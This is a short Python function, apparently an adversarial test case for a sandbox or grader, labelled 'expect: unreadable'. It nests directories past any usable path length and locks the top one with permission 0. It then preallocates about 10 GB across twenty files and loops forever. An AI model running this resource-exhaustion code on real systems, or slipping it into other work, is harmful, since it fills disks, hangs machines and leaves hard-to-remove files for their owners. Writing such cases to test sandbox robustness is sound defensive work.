# fills the disk in folders too deep for any path, in a folder that nobody may enter
# expect: unreadable
def find(session, mapping):
    import os

    door = os.path.abspath("a" * 250)
    for _ in range(30):
        os.mkdir("a" * 250)
        os.chdir("a" * 250)
    os.chmod(door, 0)
    for number in range(20):
        with open(f"{number}", "wb") as file:
            os.posix_fallocate(file.fileno(), 0, 2**29)
    while True:
        pass
